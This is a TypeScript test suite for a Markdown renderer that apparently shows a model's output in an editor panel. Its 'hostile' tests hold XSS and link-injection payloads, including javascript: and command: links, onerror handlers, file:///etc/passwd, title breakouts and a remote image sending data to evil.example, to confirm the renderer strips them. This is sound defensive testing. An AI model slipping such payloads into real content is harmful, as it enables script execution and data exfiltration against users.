/** Tests of the model's Markdown as DOM: what is meant to be seen is, and nothing can leave or run. */

import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { createRenderer } from '../../../media/markdown';

const { window } = new JSDOM('<!doctype html><body></body>');
const renderer = createRenderer(window);

/** Text or code as an element, as the panel would show it. */
function shown(fragment: DocumentFragment): HTMLElement {
	const holder = window.document.createElement('div');
	holder.append(fragment);
	return holder;
}

const ALLOWED_TAGS = new Set(
	'P BR HR STRONG EM S CODE PRE BLOCKQUOTE UL OL LI A SPAN H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD'.split(
		' ',
	),
);

/** Everything that could run or send a request, wherever it came from. */
function assertHarmless(holder: HTMLElement): void {
	for (const element of holder.querySelectorAll('*')) {
		assert.ok(ALLOWED_TAGS.has(element.tagName), element.tagName);
		for (const { name, value } of element.attributes) {
			assert.ok(['href', 'title', 'class', 'start'].includes(name), `${element.tagName} ${name}`);
			assert.ok(name !== 'href' || value.startsWith('https://'), value);
		}
	}
}

describe('media/markdown', () => {
	describe('hostile', () => {
		/** `text`: what must still be readable of it; `links`: addresses that may stay. */
		function check(name: string, markdown: string, text: string, links: readonly string[] = []): void {
			it(name, () => {
				const holder = shown(renderer.text(markdown));
				assertHarmless(holder);
				assert.ok(holder.textContent?.includes(text), holder.innerHTML);
				assert.deepEqual(
					[...holder.querySelectorAll('a')].map((link) => link.getAttribute('href')),
					links,
				);
			});
		}
		check('javascript: links', '[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1))', 'x');
		check('data: links', '[x](data:text/html;base64,PHNjcmlwdD4=)', 'x');
		check('command: links', '[x](command:workbench.action.terminal.new?%5B%5D)', 'x');
		check('vscode: links', '[x](vscode://file/etc/passwd) [y](vscode-insiders:x)', 'x');
		check('file: links', '[x](file:///etc/passwd)', 'x');
		check('UNC and relative links', '[x](\\\\\\\\evil\\share) [y](//evil.example/a) [z](/etc/passwd)', 'x');
		check('http and credentials', '[x](http://evil.example) [y](https://bank@evil.example)', 'x');
		check('remote images', '![secret](https://evil.example/?q=code)', 'secret');
		check('images in links', '[![alt](https://evil.example/i.png)](https://example.com)', 'alt', [
			'https://example.com',
		]);
		check('raw HTML', '<script>alert(1)</script><img src=x onerror=alert(1)><b>t</b>', '<script>');
		check('event handlers', '<a href="https://x.example" onclick="alert(1)">t</a>', 'onclick');
		check(
			'svg and math',
			'<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg><math><mi/></math>',
			'<svg>',
		);
		check(
			'autolinks',
			'<javascript:alert(1)> <https://example.com> https://evil.example www.evil.example',
			'www',
			['https://example.com'],
		);
		check(
			'references and nesting',
			'[a][r] *[b](<command:x>)* > [c](  javascript:x)\n\n[r]: vbscript:x "t"',
			'a',
		);
		check('titles that break out', '[x](https://example.com "\\"onmouseover=alert(1) x=\\"")', 'x', [
			'https://example.com',
		]);
		check(
			'hidden characters',
			'user\u202e\u2066 admin\u2069 \u{e0041}',
			'user[U+202E][U+2066] admin[U+2069]',
		);
		check(
			'a form and a frame',
			'<form action=https://x><input></form><iframe src=https://x></iframe>',
			'form',
		);

		for (const language of ['html', 'xml', 'javascript', 'unknown', '__proto__', '"><img src=x onerror=y>']) {
			it(`code in ${language} stays text`, () => {
				const code = '<img src="https://evil.example" onerror="alert(1)">&lt;b&gt; {{x}}';
				const holder = shown(renderer.code(code, language));
				assertHarmless(holder);
				assert.equal(holder.textContent, code);
			});
		}
	});

	describe('meant', () => {
		function check(markdown: string, selector: string, text: string): void {
			it(`${JSON.stringify(markdown)} → ${selector}`, () => {
				assert.equal(shown(renderer.text(markdown)).querySelector(selector)?.textContent, text);
			});
		}
		check('**b**', 'strong', 'b');
		check('`<a>`', 'code', '<a>');
		check('# T', 'h1', 'T');
		check('- a\n- b', 'ul li:last-child', 'b');
		check('3. a', 'ol[start="3"] li', 'a');
		check('> q', 'blockquote p', 'q');
		check('|a|\n|-|\n|b|', 'table td', 'b');
		check('~~s~~', 's', 's');
		check('[t](https://example.com/x)', 'a[title="https://example.com/x"]', 't');
		check('    indented', 'pre code', 'indented\n');

		it('highlights known languages, by VS Code ids too', () => {
			for (const language of ['typescript', 'typescriptreact', 'python', 'rust', 'shellscript', 'csharp']) {
				const holder = shown(renderer.code('if x == "y": return 1 // é', language));
				assert.ok(holder.querySelector('[class^="hljs-"]'), language);
				assert.equal(holder.textContent, 'if x == "y": return 1 // é');
			}
		});

		it('shows hidden characters of code', () => {
			assert.equal(shown(renderer.code('a\u202eb', 'python')).textContent, 'a[U+202E]b');
		});

		it('does not highlight what is very long', () => {
			const code = 'const a = 1;\n'.repeat(5_000);
			const holder = shown(renderer.code(code, 'typescript'));
			assert.equal(holder.children.length, 0);
			assert.equal(holder.textContent, code);
		});
	});
});
